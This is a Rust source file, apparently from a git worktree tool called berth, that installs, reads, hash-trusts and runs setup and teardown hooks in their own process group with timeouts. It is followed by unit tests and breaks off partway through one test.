//! `.worktree-hooks`: write them, read the ones in force, trust them, run them.
//! A setup or teardown hook runs only as the exact bytes that were read (and trusted), in its own
//! process group, so that a timeout or Ctrl-C stops everything it started. Nothing here prompts.

use std::ffi::OsStr;
use std::fmt;
use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::process::{CommandExt as _, ExitStatusExt as _};
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use serde::{Deserialize, Serialize};

use crate::process::group_alive;
use crate::{clock, error, names, statefile};

// Moved to `names`; kept here until every caller imports it from there.
pub use crate::names::MAX_PORTS;

/// Every hook name, in the order they are listed.
pub const NAMES: [&str; 4] = [
    names::HOOK_SETUP,
    names::HOOK_TEARDOWN,
    names::HOOK_PORTS,
    names::HOOK_SEED,
];
/// `sh -c` takes the script as one argument, and Linux caps one argument at 128 KiB.
const MAX_SCRIPT_BYTES: usize = 100 * 1024;
/// How often a running hook is checked for Ctrl-C; its exit is seen at once.
const POLL: Duration = Duration::from_millis(25);

// ---------------------------------------------------------------------------------------------
// Writing

/// `<checkout>/.worktree-hooks`.
pub fn checkout_dir(checkout: &Path) -> PathBuf {
    checkout.join(names::HOOKS_DIR)
}

/// `<common dir>/worktree-hooks`, where each hook replaces the committed one of its name.
pub fn local_dir(common_dir: &Path) -> PathBuf {
    common_dir.join(names::LOCAL_HOOKS_DIR)
}

/// `s` as one single-quoted `sh` word, whatever it holds: `'` becomes `'\''`.
pub fn quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// The setup or teardown hook for `command`: the command shows as one line in a diff, and the
/// file runs on its own with `sh <hook>` or as an executable.
pub fn script(command: &str) -> String {
    format!(
        "#!/bin/sh\n\
         # Written by `{} install`; edit the command or install again. Runs without berth too.\n\
         command={}\n\
         exec sh -ec \"$command\"\n",
        names::TOOL,
        quote(command)
    )
}

/// The command a hook holds on its `command=` line, if it has one written as [`script`] writes it
/// (single-quoted parts and `\'`); `None` for a hook written by hand some other way.
pub fn parse_command(content: &[u8]) -> Option<String> {
    let text = std::str::from_utf8(content).ok()?;
    let start = text
        .match_indices("command=")
        .map(|(at, _)| at)
        .find(|&at| at == 0 || text.as_bytes()[at - 1] == b'\n')?;
    let mut chars = text[start + "command=".len()..].chars();
    let mut out = String::new();
    loop {
        match chars.next() {
            Some('\'') => loop {
                match chars.next()? {
                    '\'' => break,
                    c => out.push(c),
                }
            },
            Some('\\') => out.push(chars.next().filter(|&c| c != '\n')?),
            None | Some('\n') => return Some(out),
            Some(c) if c == ' ' || c == '\t' => {
                // Only a comment or nothing may follow the word on its line.
                let rest: String = chars.take_while(|&c| c != '\n').collect();
                let rest = rest.trim();
                return (rest.is_empty() || rest.starts_with('#')).then_some(out);
            }
            Some(_) => return None,
        }
    }
}

/// The number a `ports` hook holds: one whole number from 1 to [`MAX_PORTS`], blank lines and
/// surrounding space allowed. The error is one line, without the file's name.
pub fn parse_ports(text: &str) -> Result<u16, String> {
    let text = text.trim();
    if text.is_empty() {
        return Err(format!("empty, not a whole number from 1 to {MAX_PORTS}"));
    }
    match text.parse::<u32>() {
        Ok(n)
            if (1..=u32::from(MAX_PORTS)).contains(&n)
                && text.bytes().all(|b| b.is_ascii_digit()) =>
        {
            Ok(n as u16)
        }
        _ => Err(format!(
            "'{}' is not a whole number from 1 to {MAX_PORTS}",
            text.escape_default()
        )),
    }
}

/// Write the hooks given into `dir` (the checkout's `.worktree-hooks` or the local folder) and
/// leave the others as they are. Everything is checked before anything is written; each file is
/// replaced atomically. Returns the paths written, in the order setup, teardown, ports.
/// `install` trusts what it writes: read the hooks back and pass them to [`trust`].
pub fn install(
    dir: &Path,
    setup: Option<&str>,
    teardown: Option<&str>,
    ports: Option<u16>,
) -> Result<Vec<PathBuf>> {
    let mut files: Vec<(&str, Vec<u8>, u32)> = Vec::new();
    for (name, command) in [(names::HOOK_SETUP, setup), (names::HOOK_TEARDOWN, teardown)] {
        let Some(command) = command else { continue };
        if command.trim().is_empty() {
            return Err(error::refuse_with_hint(
                format!("the {name} command is empty"),
                format!("give the command to run, as in --{name} 'make {name}'"),
            ));
        }
        if command.contains('\0') {
            return Err(error::refuse(format!(
                "the {name} command holds a NUL byte, which no shell can run"
            )));
        }
        files.push((name, script(command).into_bytes(), 0o755));
    }
    if let Some(n) = ports {
        parse_ports(&n.to_string()).map_err(|reason| {
            error::refuse_with_hint(
                format!("--ports {n}: {reason}"),
                format!("ask for between 1 and {MAX_PORTS} ports, as in --ports 20"),
            )
        })?;
        files.push((names::HOOK_PORTS, format!("{n}\n").into_bytes(), 0o644));
    }
    if files.is_empty() {
        return Ok(Vec::new());
    }
    fs::create_dir_all(dir).with_context(|| format!("cannot create {}", dir.display()))?;
    let mut written = Vec::new();
    for (name, bytes, mode) in files {
        let path = dir.join(name);
        statefile::write_atomic(&path, &bytes, Some(mode))?;
        written.push(path);
    }
    Ok(written)
}

// ---------------------------------------------------------------------------------------------
// Reading

/// Where a hook in force was read from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Source {
    /// `.worktree-hooks/<name>` in the tree of this commit.
    Committed(gix::ObjectId),
    /// `.worktree-hooks/<name>` in a checkout on disk; the path is the file.
    Checkout(PathBuf),
    /// `<common dir>/worktree-hooks/<name>`: the clone's own, always trusted.
    Local(PathBuf),
}

impl fmt::Display for Source {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Source::Committed(id) => write!(f, "committed at {}", id.to_hex_with_len(7)),
            Source::Checkout(path) => write!(f, "checkout {}", path.display()),
            Source::Local(path) => write!(f, "local {}", path.display()),
        }
    }
}

/// One hook in force: its name (one of [`NAMES`]), its exact bytes, where they came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hook {
    pub name: &'static str,
    pub content: Vec<u8>,
    pub source: Source,
}

impl Hook {
    /// The hook as a person finds it: the file's path, or `.worktree-hooks/<name>` at a commit.
    pub fn location(&self) -> String {
        match &self.source {
            Source::Committed(id) => format!(
                "{}/{} (committed at {})",
                names::HOOKS_DIR,
                self.name,
                id.to_hex_with_len(7)
            ),
            Source::Checkout(path) | Source::Local(path) => path.display().to_string(),
        }
    }

    pub fn is_local(&self) -> bool {
        matches!(self.source, Source::Local(_))
    }

    /// Setup and teardown are run; ports and seed are only read.
    pub fn is_script(&self) -> bool {
        self.name == names::HOOK_SETUP || self.name == names::HOOK_TEARDOWN
    }

    /// The command of a hook [`install`] wrote, or `None` for one written another way.
    pub fn command(&self) -> Option<String> {
        parse_command(&self.content)
    }

    /// The number a `ports` hook holds; bad content is an error naming the file.
    pub fn ports(&self) -> Result<u16> {
        let text = std::str::from_utf8(&self.content).unwrap_or("\u{fffd}");
        parse_ports(text).map_err(|reason| {
            error::refuse_with_hint(
                format!("bad ports hook {}: {reason}", self.location()),
                format!(
                    "write one whole number from 1 to {MAX_PORTS} into it, or run `{} install --ports <n>`",
                    names::TOOL
                ),
            )
        })
    }

    /// The content's git blob id, the same as `git hash-object` gives for the file.
    pub fn hash(&self) -> Result<gix::ObjectId> {
        content_hash(&self.content)
    }
}

/// The hooks in force for one worktree; a missing hook means the project has none of that kind.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Hooks {
    pub setup: Option<Hook>,
    pub teardown: Option<Hook>,
    pub ports: Option<Hook>,
    pub seed: Option<Hook>,
}

impl Hooks {
    pub fn get(&self, name: &str) -> Option<&Hook> {
        self.iter().find(|h| h.name == name)
    }

    /// The hooks present, in the order of [`NAMES`].
    pub fn iter(&self) -> impl Iterator<Item = &Hook> {
        [&self.setup, &self.teardown, &self.ports, &self.seed]
            .into_iter()
            .flatten()
    }

    /// The number of ports the project asks for, if it asks.
    pub fn ports(&self) -> Result<Option<u16>> {
        self.ports.as_ref().map(Hook::ports).transpose()
    }

    fn set(&mut self, hook: Hook) {
        let slot = match hook.name {
            names::HOOK_SETUP => &mut self.setup,
            names::HOOK_TEARDOWN => &mut self.teardown,
            names::HOOK_PORTS => &mut self.ports,
            _ => &mut self.seed,
        };
        *slot = Some(hook);
    }
}

/// Where the project's hooks are read from.
#[derive(Clone, Copy)]
pub enum Origin<'a> {
    /// The committed content at a commit: a new worktree's base, read before anything is made.
    Commit(&'a gix::Repository, gix::ObjectId),
    /// A checkout on disk, as it is now (see [`teardown_checkout`]).
    Checkout(&'a Path),
}

/// The hooks in force: each local hook in `<common dir>/worktree-hooks`, else the project's.
pub fn in_force(common_dir: &Path, origin: Origin<'_>) -> Result<Hooks> {
    let tree = match origin {
        Origin::Commit(repo, commit) => Some(commit_tree(repo, commit)?),
        Origin::Checkout(_) => None,
    };
    let mut hooks = Hooks::default();
    for name in NAMES {
        let hook = match local(common_dir, name)? {
            Some(hook) => Some(hook),
            None => match (origin, &tree) {
                (Origin::Commit(_, commit), Some(tree)) => in_tree(tree, &commit, name)?,
                (Origin::Checkout(checkout), _) => in_checkout(checkout, name)?,
                (Origin::Commit(..), None) => None,
            },
        };
        if let Some(hook) = hook {
            hooks.set(hook);
        }
    }
    Ok(hooks)
}

/// Where teardown is read: the worktree while its folder exists, else the primary checkout.
pub fn teardown_checkout<'a>(worktree: &'a Path, primary: &'a Path) -> &'a Path {
    if worktree.is_dir() { worktree } else { primary }
}

/// The local hook `name`, if the clone has one. A symlink is followed: the file is the user's.
pub fn local(common_dir: &Path, name: &'static str) -> Result<Option<Hook>> {
    let path = local_dir(common_dir).join(name);
    let content = match fs::read(&path) {
        Ok(content) => content,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(e).with_context(|| format!("cannot read {}", path.display())),
    };
    Ok(Some(Hook {
        name,
        content,
        source: Source::Local(path),
    }))
}

/// The hook `name` in a checkout on disk. It must be a plain file, as it must be when committed.
pub fn in_checkout(checkout: &Path, name: &'static str) -> Result<Option<Hook>> {
    let path = checkout_dir(checkout).join(name);
    let meta = match fs::symlink_metadata(&path) {
        Ok(meta) => meta,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(e).with_context(|| format!("cannot read {}", path.display())),
    };
    if !meta.is_file() {
        return Err(not_a_file(&path.display().to_string()));
    }
    let content = fs::read(&path).with_context(|| format!("cannot read {}", path.display()))?;
    Ok(Some(Hook {
        name,
        content,
        source: Source::Checkout(path),
    }))
}

/// The hook `name` as committed at `commit`, without touching any checkout.
pub fn committed(
    repo: &gix::Repository,
    commit: gix::ObjectId,
    name: &'static str,
) -> Result<Option<Hook>> {
    in_tree(&commit_tree(repo, commit)?, &commit, name)
}

fn commit_tree(repo: &gix::Repository, commit: gix::ObjectId) -> Result<gix::Tree<'_>> {
    repo.find_commit(commit)
        .map_err(crate::git::gix_err)
        .and_then(|c| c.tree().map_err(crate::git::gix_err))
        .with_context(|| format!("cannot read the tree of commit {commit}"))
}

fn in_tree(
    tree: &gix::Tree<'_>,
    commit: &gix::ObjectId,
    name: &'static str,
) -> Result<Option<Hook>> {
    let relative = format!("{}/{name}", names::HOOKS_DIR);
    let entry = tree
        .lookup_entry_by_path(&relative)
        .map_err(crate::git::gix_err)
        .with_context(|| format!("cannot read {relative} at {commit}"))?;
    let Some(entry) = entry else { return Ok(None) };
    if !entry.mode().is_blob() {
        return Err(not_a_file(&format!(
            "{relative} (committed at {})",
            commit.to_hex_with_len(7)
        )));
    }
    let blob = entry
        .object()
        .map_err(crate::git::gix_err)
        .with_context(|| format!("cannot read {relative} at {commit}"))?;
    Ok(Some(Hook {
        name,
        content: blob.detach().data,
        source: Source::Committed(*commit),
    }))
}

fn not_a_file(what: &str) -> anyhow::Error {
    error::refuse_with_hint(
        format!("hook {what} is not a plain file"),
        format!(
            "make it a file (a symlink or folder is never read), or run `{} install`",
            names::TOOL
        ),
    )
}

// ---------------------------------------------------------------------------------------------
// Trust

/// The format of `trust.toml` this build reads and writes.
const TRUST_VERSION: u32 = 1;

/// `<common dir>/berth/trust.toml`.
pub fn trust_path(common_dir: &Path) -> PathBuf {
    common_dir.join(names::STATE_DIR).join(names::TRUST_FILE)
}

/// The git blob id of `content` (SHA-1): the hash trust records.
pub fn content_hash(content: &[u8]) -> Result<gix::ObjectId> {
    gix::objs::compute_hash(gix::hash::Kind::Sha1, gix::objs::Kind::Blob, content)
        .map_err(crate::git::gix_err)
        .context("cannot hash a hook")
}

/// One trusted content of one hook.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Trusted {
    /// `setup` or `teardown`.
    pub hook: String,
    /// The content's git blob id, in hex.
    pub hash: String,
    /// Seconds since the Unix epoch.
    pub trusted: u64,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustFile {
    #[serde(default)]
    version: u32,
    #[serde(default, rename = "trusted")]
    entries: Vec<Trusted>,
}

impl TrustFile {
    fn holds(&self, name: &str, hash: &str) -> bool {
        self.entries
            .iter()
            .any(|t| t.hook == name && t.hash == hash)
    }
}

/// Everything trusted so far, oldest first.
pub fn trusted(common_dir: &Path) -> Result<Vec<Trusted>> {
    Ok(read_trust(&trust_path(common_dir))?.entries)
}

/// Record the contents of the setup and teardown hooks among `hooks` as trusted; ports, seed and
/// local hooks need no trust and are skipped. Earlier contents stay trusted, so a worktree on an
/// older commit keeps running. Atomic under `trust.lock`; returns how many were new.
pub fn trust(common_dir: &Path, hooks: &[&Hook]) -> Result<usize> {
    let wanted: Vec<(&str, String)> = hooks
        .iter()
        .filter(|h| h.is_script() && !h.is_local())
        .map(|h| Ok((h.name, h.hash()?.to_string())))
        .collect::<Result<_>>()?;
    if wanted.is_empty() {
        return Ok(0);
    }
    let path = trust_path(common_dir);
    let dir = path.parent().unwrap_or(common_dir);
    fs::create_dir_all(dir).with_context(|| format!("cannot create {}", dir.display()))?;
    let lock_path = path.with_extension("lock");
    let mut lock = fslock::LockFile::open(&lock_path)
        .with_context(|| format!("cannot open {}", lock_path.display()))?;
    lock.lock()
        .with_context(|| format!("cannot lock {}", lock_path.display()))?;
    let mut file = read_trust(&path)?;
    let now = clock::now();
    let mut added = 0;
    for (name, hash) in wanted {
        if !file.holds(name, &hash) {
            file.entries.push(Trusted {
                hook: name.to_owned(),
                hash,
                trusted: now,
            });
            added += 1;
        }
    }
    if added > 0 {
        file.version = TRUST_VERSION;
        let text = toml::to_string(&file).context("cannot serialize the trust file")?;
        statefile::write_atomic(&path, text.as_bytes(), Some(0o644))?;
    }
    Ok(added)
}

/// Whether `hook` may run: a local hook always, ports and seed always (they are never run), a
/// setup or teardown hook when its exact content was trusted under its name.
pub fn is_trusted(common_dir: &Path, hook: &Hook) -> Result<bool> {
    if hook.is_local() || !hook.is_script() {
        return Ok(true);
    }
    let file = read_trust(&trust_path(common_dir))?;
    Ok(file.holds(hook.name, &hook.hash()?.to_string()))
}

/// Refuse at once, naming each untrusted hook and `git berth trust`, unless every hook in
/// `hooks` may run. Call it before creating anything.
pub fn ensure_trusted(common_dir: &Path, hooks: &[&Hook]) -> Result<()> {
    let mut untrusted = Vec::new();
    for hook in hooks {
        if !is_trusted(common_dir, hook)? {
            untrusted.push(hook.location());
        }
    }
    match untrusted.as_slice() {
        [] => Ok(()),
        [one] => Err(error::refuse_with_hint(
            format!("hook {one} is not trusted, so it was not run"),
            format!("read it, then run `{} trust` to let it run", names::TOOL),
        )),
        many => Err(error::refuse_with_hint(
            format!(
                "hooks {} are not trusted, so they were not run",
                many.join(" and ")
            ),
            format!(
                "read them, then run `{} trust` to let them run",
                names::TOOL
            ),
        )),
    }
}

fn read_trust(path: &Path) -> Result<TrustFile> {
    let Some(text) = statefile::read_text(path, "trust file")? else {
        return Ok(TrustFile::default());
    };
    let corrupt = |reason: &str| statefile::corrupt(path, "trust file", reason);
    let file: TrustFile =
        toml::from_str(&text).map_err(|e| corrupt(&e.message().replace('\n', " ")))?;
    if file.version > TRUST_VERSION {
        return Err(corrupt(&format!(
            "format version {} is newer than this {} understands ({TRUST_VERSION})",
            file.version,
            names::TOOL
        )));
    }
    Ok(file)
}

// ---------------------------------------------------------------------------------------------
// Running

/// `berth.hookTimeout` (`None` when unset), default 15m; a value that does not read, or zero, is an
/// error naming the key.
pub fn timeout(configured: Option<&str>) -> Result<Duration> {
    let raw = configured.unwrap_or(names::DEFAULT_HOOK_TIMEOUT);
    match clock::parse_duration(raw) {
        Some(secs) if secs > 0 => Ok(Duration::from_secs(secs)),
        _ => Err(error::refuse_with_hint(
            format!(
                "{} is '{raw}', not a duration above zero",
                names::config::HOOK_TIMEOUT
            ),
            format!(
                "git config {} {}",
                names::config::HOOK_TIMEOUT,
                names::DEFAULT_HOOK_TIMEOUT
            ),
        )),
    }
}

/// How a hook run failed. Returned inside the `anyhow::Error` of [`run`], so a caller can
/// `downcast_ref::<Failed>()` to record it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Failed {
    pub hook: &'static str,
    pub how: Failure,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Failure {
    /// It exited with this code.
    Exit(i32),
    /// It was ended by this signal, not by berth.
    Signal(i32),
    /// It ran past the timeout; its process group was stopped.
    TimedOut(Duration),
    /// Ctrl-C (or TERM, HUP) reached berth; its process group was stopped.
    Interrupted,
}

impl fmt::Display for Failed {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let hook = self.hook;
        match &self.how {
            Failure::Exit(code) => write!(f, "hook {hook} failed with exit code {code}"),
            Failure::Signal(sig) => write!(f, "hook {hook} was killed by signal {sig}"),
            Failure::TimedOut(after) => {
                write!(f, "hook {hook} timed out after {}", human(*after))
            }
            Failure::Interrupted => write!(f, "hook {hook} was interrupted"),
        }
    }
}

impl std::error::Error for Failed {}

fn human(d: Duration) -> String {
    if d.subsec_nanos() == 0 {
        clock::format_duration(d.as_secs())
    } else {
        format!("{}ms", d.as_millis())
    }
}

/// Run a setup or teardown hook: its exact content (the bytes trust was checked on) with
/// `sh -c`, `$0` naming the hook, in `cwd`, with berth's environment minus any inherited
/// `WORKTREE_*` and repository-locating `GIT_*` variables, plus `WORKTREE_HOOK` and `env`. Its
/// output goes to berth's stderr, its stdin is null, and it runs in its own process group: past
/// `timeout`, or on Ctrl-C, the whole group gets TERM, then KILL after
/// [`names::HOOK_KILL_GRACE_SECS`], and the run fails. Processes the hook leaves behind after it
/// exits by itself are its own business and are not stopped. Trust is not checked here: call
/// [`ensure_trusted`] before anything is created.
pub fn run(hook: &Hook, cwd: &Path, env: &[(&str, String)], timeout: Duration) -> Result<()> {
    // The hook is not in the terminal's foreground group, so Ctrl-C reaches berth alone (and a
    // second time when `git` forwards it); catch every such signal while the hook runs, so that
    // berth always lives to stop the group. The handler goes again when this returns.
    let _handler = gix::interrupt::init_handler_default(usize::MAX)
        .map_err(crate::git::gix_err)
        .context("cannot catch Ctrl-C while a hook runs")?
        .auto_deregister();
    run_with(
        hook,
        cwd,
        env,
        timeout,
        Duration::from_secs(names::HOOK_KILL_GRACE_SECS),
        &gix::interrupt::is_triggered,
    )
}

/// [`run`] with the grace between TERM and KILL given, and `stop` asked while the hook runs
/// (true stops it as Ctrl-C does). Installs no signal handler.
pub fn run_with(
    hook: &Hook,
    cwd: &Path,
    env: &[(&str, String)],
    timeout: Duration,
    grace: Duration,
    stop: &dyn Fn() -> bool,
) -> Result<()> {
    let failed = |how| {
        anyhow::Error::new(Failed {
            hook: hook.name,
            how,
        })
    };
    if !hook.is_script() {
        return Err(error::refuse(format!(
            "hook {} is read, never run",
            hook.location()
        )));
    }
    if hook.content.len() > MAX_SCRIPT_BYTES || hook.content.contains(&0) {
        return Err(error::refuse_with_hint(
            format!(
                "hook {} is not a shell script of at most {} KiB",
                hook.location(),
                MAX_SCRIPT_BYTES / 1024
            ),
            "keep the hook short: let it run a script of the project",
        ));
    }
    if stop() {
        return Err(failed(Failure::Interrupted));
    }
    let arg0 = match &hook.source {
        Source::Committed(_) => format!("{}/{}", names::HOOKS_DIR, hook.name),
        Source::Checkout(path) | Source::Local(path) => path.display().to_string(),
    };
    let mut cmd = Command::new("sh");
    cmd.arg("-c")
        .arg(OsStr::from_bytes(&hook.content))
        .arg(arg0)
        .current_dir(cwd)
        .stdin(Stdio::null())
        .stdout(std::io::stderr())
        .stderr(std::io::stderr())
        .process_group(0);
    for var in INHERITED_UNWANTED {
        cmd.env_remove(var);
    }
    cmd.env(names::hook_env::HOOK, hook.name);
    for (key, value) in env {
        cmd.env(key, value);
    }
    let mut child = cmd
        .spawn()
        .with_context(|| format!("cannot start hook {} in {}", hook.location(), cwd.display()))?;
    // The child's pid is its process group's id (`process_group(0)`).
    let group = child.id() as libc::pid_t;
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(child.wait());
    });
    let started = Instant::now();
    loop {
        let left = timeout.saturating_sub(started.elapsed());
        match rx.recv_timeout(left.min(POLL)) {
            Ok(status) => {
                let status =
                    status.with_context(|| format!("cannot wait for hook {}", hook.location()))?;
                return judge(status).map_err(failed);
            }
            Err(mpsc::RecvTimeoutError::Timeout) => {}
            Err(mpsc::RecvTimeoutError::Disconnected) => {
                anyhow::bail!("lost track of hook {}", hook.location())
            }
        }
        if stop() {
            stop_group(group, grace, &rx);
            return Err(failed(Failure::Interrupted));
        }
        if started.elapsed() >= timeout {
            stop_group(group, grace, &rx);
            return Err(failed(Failure::TimedOut(timeout)));
        }
    }
}

/// Variables that must not leak into a hook: the caller's `WORKTREE_*` (berth run from another
/// worktree's hook) and those that would point the hook's `git` at the caller's repository.
const INHERITED_UNWANTED: &[&str] = &[
    names::hook_env::NAME,
    names::hook_env::PATH,
    names::hook_env::BRANCH,
    names::hook_env::BASE,
    names::hook_env::PRIMARY,
    names::hook_env::HOOK,
    names::hook_env::PORT,
    names::hook_env::PORTS,
    "GIT_DIR",
    "GIT_WORK_TREE",
    "GIT_COMMON_DIR",
    "GIT_INDEX_FILE",
    "GIT_PREFIX",
    "GIT_OBJECT_DIRECTORY",
    "GIT_ALTERNATE_OBJECT_DIRECTORIES",
];

fn judge(status: ExitStatus) -> Result<(), Failure> {
    match (status.code(), status.signal()) {
        (Some(0), _) => Ok(()),
        (Some(code), _) => Err(Failure::Exit(code)),
        (None, Some(sig)) => Err(Failure::Signal(sig)),
        (None, None) => Err(Failure::Exit(-1)),
    }
}

/// TERM the group, wait up to `grace` for it to be gone, then KILL whatever is left. Waits for
/// the leader to be reaped, so no zombie of ours outlives the run.
fn stop_group(
    group: libc::pid_t,
    grace: Duration,
    leader: &mpsc::Receiver<std::io::Result<ExitStatus>>,
) {
    signal_group(group, libc::SIGTERM);
    let until = Instant::now() + grace;
    let mut reaped = false;
    loop {
        reaped = reaped || leader.try_recv().is_ok();
        if reaped && !group_alive(group) {
            return;
        }
        if Instant::now() >= until {
            break;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    signal_group(group, libc::SIGKILL);
    if !reaped {
        let _ = leader.recv_timeout(Duration::from_secs(5));
    }
}

fn signal_group(group: libc::pid_t, signal: libc::c_int) {
    // SAFETY: kill(2) takes plain integers; a negative pid addresses the process group.
    unsafe {
        libc::kill(-group, signal);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::PermissionsExt as _;

    fn scratch(test: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("berth-hooks-{test}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(&dir).unwrap();
        gix::path::realpath(&dir).unwrap()
    }

    fn sh(script: &Path, cwd: &Path) -> std::process::Output {
        Command::new("sh")
            .arg(script)
            .current_dir(cwd)
            .output()
            .unwrap()
    }

    fn checkout_hook(name: &'static str, content: &str) -> Hook {
        Hook {
            name,
            content: content.as_bytes().to_vec(),
            source: Source::Checkout(PathBuf::from(format!("/repo/.worktree-hooks/{name}"))),
        }
    }

    fn git(dir: &Path, args: &[&str]) {
        let out = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args([
                "-c",
                "init.defaultBranch=main",
                "-c",
                "commit.gpgsign=false",
            ])
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", dir)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    /// Running: present in the process table and not a zombie.
    fn running(pid: i32) -> bool {
        match crate::process::stat(pid as u32) {
            Some(stat) => stat.state != 'Z',
            None if Path::new("/proc/self").exists() => false,
            // SAFETY: signal 0 only asks whether the process exists.
            None => unsafe { libc::kill(pid, 0) == 0 },
        }
    }

    fn wait_for_file(path: &Path) -> String {
        let until = Instant::now() + Duration::from_secs(10);
        loop {
            if let Ok(text) = fs::read_to_string(path)
                && text.ends_with('\n')
            {
                return text;
            }
            assert!(Instant::now() < until, "{} never appeared", path.display());
            std::thread::sleep(Duration::from_millis(10));
        }
    }

    #[test]
    fn a_command_with_quotes_dollars_backticks_and_newlines_survives_install() {
        let dir = scratch("quoting");
        let out = dir.join("out");
        let command = format!(
            "printf '%s\\n' \"it's\" '\"q\"' '$HOME' '`date`' \"a\nb\" > {}",
            quote(out.to_str().unwrap())
        );
        let written = install(&dir.join("hooks"), Some(&command), None, None).unwrap();
        assert_eq!(written, vec![dir.join("hooks").join("setup")]);
        let result = sh(&written[0], &dir);
        assert!(
            result.status.success(),
            "{}",
            String::from_utf8_lossy(&result.stderr)
        );
        assert_eq!(
            fs::read_to_string(&out).unwrap(),
            "it's\n\"q\"\n$HOME\n`date`\na\nb\n"
        );
        let content = fs::read(&written[0]).unwrap();
        assert_eq!(parse_command(&content).as_deref(), Some(command.as_str()));
        let mode = fs::metadata(&written[0]).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o755);
    }

    #[test]
    fn an_installed_hook_runs_as_an_executable_with_sh_errexit() {
        let dir = scratch("exec");
        let written = install(&dir, None, Some("false; echo not reached"), None).unwrap();
        let out = Command::new(&written[0])
            .current_dir(&dir)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1));
        assert!(out.stdout.is_empty());
    }

    #[test]
    fn install_writes_only_the_hooks_it_is_given() {
        let dir = scratch("leaves");
        install(&dir, Some("make setup"), Some("make down"), Some(20)).unwrap();
        let written = install(&dir, None, Some("docker compose down -v"), None).unwrap();
        assert_eq!(written, vec![dir.join("teardown")]);
        assert_eq!(
            parse_command(&fs::read(dir.join("setup")).unwrap()).as_deref(),
            Some("make setup")
        );
        assert_eq!(
            parse_command(&fs::read(dir.join("teardown")).unwrap()).as_deref(),
            Some("docker compose down -v")
        );
        assert_eq!(fs::read_to_string(dir.join("ports")).unwrap(), "20\n");
        assert!(install(&dir, None, None, None).unwrap().is_empty());
    }

    #[test]
    fn ports_must_be_a_whole_number_from_1_to_1000() {
        assert_eq!(parse_ports("20\n"), Ok(20));
        assert_eq!(parse_ports(" 1000 "), Ok(1000));
        for bad in [
            "0",
            "1001",
            "",
            "-3",
            "+5",
            "2.5",
            "ten",
            "20 30",
            "99999999999",
        ] {
            assert!(parse_ports(bad).is_err(), "{bad:?} was accepted");
        }
        let dir = scratch("ports");
        for bad in [0, 1001] {
            let err = install(&dir, Some("make"), None, Some(bad)).unwrap_err();
            assert!(err.to_string().contains("from 1 to 1000"), "{err}");
        }
        assert!(
            !dir.join("setup").exists(),
            "nothing is written when one option is bad"
        );
        let hook = checkout_hook("ports", "twenty\n");
        let err = hook.ports().unwrap_err().to_string();
        assert!(
            err.contains("/repo/.worktree-hooks/ports") && err.contains("'twenty'"),
            "{err}"
        );
    }

    #[test]
    fn an_empty_command_is_refused() {
        let dir = scratch("empty");
        assert!(install(&dir, Some("  "), None, None).is_err());
        assert!(!dir.join("setup").exists());
    }

    #[test]
    fn a_hand_written_hook_has_no_command_to_show() {
        assert_eq!(parse_command(b"#!/bin/sh\nmake setup\n"), None);
        assert_eq!(parse_command(b"command=\"make\"\n"), None);
        assert_eq!(
            parse_command(b"command='a'\\''b' # note\nexec x\n").as_deref(),
            Some("a'b")
        );
        assert_eq!(parse_command(b"# command='x'\n"), None);
    }

    #[test]
    fn a_local_hook_replaces_the_committed_one_of_its_name() {
        let dir = scratch("local");
        let repo_dir = dir.join("repo");
        fs::create_dir_all(&repo_dir).unwrap();
        git(&repo_dir, &["init", "-q"]);
        install(
            &checkout_dir(&repo_dir),
            Some("committed setup"),
            Some("committed down"),
            Some(20),
        )
        .unwrap();
        fs::write(checkout_dir(&repo_dir).join("seed"), ".env\n").unwrap();
        git(&repo_dir, &["add", "."]);
        git(&repo_dir, &["commit", "-q", "-m", "hooks"]);
        // A later change on disk is not what is committed.
        install(&checkout_dir(&repo_dir), Some("uncommitted"), None, None).unwrap();
        let repo = gix::open(&repo_dir).unwrap();
        let head = repo.head_id().unwrap().detach();
        let common = repo_dir.join(".git");
        install(&local_dir(&common), Some("local setup"), None, Some(5)).unwrap();

        let hooks = in_force(&common, Origin::Commit(&repo, head)).unwrap();
        let setup = hooks.setup.as_ref().unwrap();
        assert_eq!(setup.command().as_deref(), Some("local setup"));
        assert_eq!(
            setup.source,
            Source::Local(local_dir(&common).join("setup"))
        );
        let teardown = hooks.teardown.as_ref().unwrap();
        assert_eq!(teardown.command().as_deref(), Some("committed down"));
        assert_eq!(teardown.source, Source::Committed(head));
        assert!(
            teardown
                .location()
                .starts_with(".worktree-hooks/teardown (committed at ")
        );
        assert_eq!(hooks.ports().unwrap(), Some(5));
        assert_eq!(hooks.seed.as_ref().unwrap().content, b".env\n");

        let on_disk = in_force(&common, Origin::Checkout(&repo_dir)).unwrap();
        assert_eq!(
            on_disk.setup.unwrap().command().as_deref(),
            Some("local setup")
        );
